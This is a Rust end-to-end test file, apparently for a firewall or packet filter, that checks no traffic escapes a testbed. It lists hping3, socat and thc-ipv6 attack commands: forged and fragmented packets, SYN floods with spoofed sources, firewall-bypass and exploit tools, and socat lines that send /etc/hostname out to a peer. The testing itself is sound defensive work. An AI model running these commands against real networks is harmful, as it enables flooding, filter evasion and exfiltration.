//! Packets by hand: hping3, socat and thc-ipv6.

use super::attack::{Attack, play};
use crate::e2e::testbed::share_machine;

pub const TEST: &str = "e2e::evasion::crafted::nothing_of_hping3_or_socat_gets_out";
pub const TEST6: &str = "e2e::evasion::crafted::nothing_of_thc_ipv6_gets_out";

macro_rules! attack {
    ($line:literal, $shows:literal) => {
        Attack { line: $line, shows: $shows }
    };
}

pub const LIST: &[Attack] = &[
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -S -p 80 PEER", "SYN"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -S -s 80 -k -p 40000 PEER", "SYN from a service's port"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -S -A -s 80 -k -p 40000 PEER", "SYN+ACK that nobody asked for"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -A -s 80 -k -p 40000 -d 600 PEER", "data in no flow"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -F -P -U -X -Y -p 80 PEER", "Xmas with both reserved flags"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -S -p 80 -O 3 PEER", "data offset that lies"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -S -p 80 -f -d 64 PEER", "tiny fragments"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -S -p 80 -x PEER", "first fragment without others"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -2 -p 53 -x -g 64 PEER", "later fragment alone"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -2 -s 53 -k -p 40000 -a DNS PEER", "UDP from a service's port"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -2 -p 53 -b PEER", "UDP with a wrong checksum"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -1 -d 1000 PEER", "ping with a load"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -1 -C 13 PEER", "timestamp request"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -1 -C 0 -d 1000 PEER", "echo reply with a load"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -1 -C 3 -K 3 PEER", "unreachable with a forged quote"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -1 -C 5 -K 1 PEER", "redirect with a forged quote"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -0 -H 47 -d 100 PEER", "GRE"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -0 -H 253 -d 100 PEER", "a protocol for experiments"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -S -p 80 --rand-source PEER", "any source"),
    attack!("hping3 -q -c 3 -i u9000 -I eth0 -S -p 80 -G PEER", "record route"),
    attack!("socat -T1 -u /etc/hostname TCP:PEER:4444,bind=WEB,connect-timeout=1", "a file by TCP"),
    attack!("socat -T1 -u /etc/hostname UDP-SENDTO:PEER:53,bind=WEB", "a file by UDP"),
    attack!("socat -T1 -u /etc/hostname UDP-SENDTO:PEER:443,bind=DNS:53", "a file from a service's port"),
    attack!("socat -T1 -u /etc/hostname IP-SENDTO:PEER:99,bind=WEB", "a file by a bare protocol"),
    attack!("socat -T1 -u /etc/hostname IP6-SENDTO:[PEER6]:99,bind=[WEB6]", "the same, IPv6"),
];

pub const LIST6: &[Attack] = &[
    attack!("atk6-thcping6 eth0 WEB6 PEER6", "ping"),
    attack!("atk6-thcping6 -S 445 eth0 WEB6 PEER6", "SYN"),
    attack!("atk6-thcping6 -U 53 eth0 WEB6 PEER6", "UDP"),
    attack!("atk6-thcping6 -N 99 eth0 WEB6 PEER6", "a next header that there is not"),
    attack!("atk6-thcping6 -H 5:2:0 eth0 WEB6 PEER6", "hop-by-hop options"),
    attack!("atk6-thcping6 -D 5:2:0 eth0 WEB6 PEER6", "destination options"),
    attack!("timeout 1 atk6-thcsyn6 -i 20000 -s WEB6 eth0 PEER6 445", "SYN flood"),
    attack!(
        "timeout 1 atk6-thcsyn6 -i 20000 -d -d -f -A -s WEB6 eth0 PEER6 445",
        "ACK behind options and a fragment header"
    ),
    attack!("timeout 1 atk6-thcsyn6 -i 20000 -R eth0 PEER6 445", "any source"),
    attack!("atk6-fragmentation6 -p eth0 PEER6 1", "fragments"),
    attack!("atk6-fragmentation6 -p eth0 PEER6 5", "fragments"),
    attack!("atk6-fragmentation6 -p eth0 PEER6 12", "fragments"),
    attack!("atk6-implementation6 -p -s WEB6 eth0 PEER6 1", "extension headers"),
    attack!("atk6-implementation6 -p -s WEB6 eth0 PEER6 10", "extension headers"),
    attack!("atk6-implementation6 -p -s WEB6 eth0 PEER6 30", "extension headers"),
    attack!("atk6-firewall6 -u eth0 PEER6 445 1", "filter bypass"),
    attack!("atk6-firewall6 eth0 PEER6 445 10", "filter bypass"),
    attack!("atk6-firewall6 eth0 PEER6 445 20", "filter bypass"),
    attack!("timeout 2 atk6-exploit6 eth0 PEER6 1", "exploit"),
    attack!("timeout 0.3 atk6-denial6 eth0 PEER6 2", "2 KiB of unknown options"),
    attack!("atk6-toobig6 eth0 PEER6 WEB6 1280", "packet too big with a forged quote"),
    attack!("atk6-trace6 eth0 PEER6", "trace by pings"),
];

#[test]
fn nothing_of_hping3_or_socat_gets_out() {
    let _machine = share_machine();
    play(LIST);
}

#[test]
fn nothing_of_thc_ipv6_gets_out() {
    let _machine = share_machine();
    play(LIST6);
}
